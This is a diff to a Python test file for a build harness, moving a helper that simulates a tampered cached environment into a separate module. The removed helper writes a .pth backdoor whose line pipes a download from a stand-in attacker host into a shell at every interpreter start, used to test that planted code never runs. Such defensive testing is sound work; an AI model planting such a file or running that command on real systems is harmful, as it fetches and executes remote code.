@@ -9,6 +9,7 @@ import time
 from pathlib import Path
 
 import pytest
+from tamper import plant_pth
 
 from harness import env
 from harness.matrix import Cell
@@ -82,15 +83,6 @@ def test_a_build_that_fails_lets_the_next_run_build(fake_builds, monkeypatch, tm
 
 # ---------------------------------------------------------------------------------------------
 # Trust: code planted in a cached environment never runs in a later run
-
-
-def plant_pth(path: Path) -> Path:
-    """What a pull request's tests could leave behind: a .pth file runs at every interpreter start."""
-    site = path / "lib" / "python3" / "site-packages"
-    site.mkdir(parents=True, exist_ok=True)
-    planted = site / "zz-harness-backdoor.pth"
-    planted.write_text("import os; os.system('curl -s https://evil.example | sh')\n")
-    return planted
 
 
 @pytest.fixture
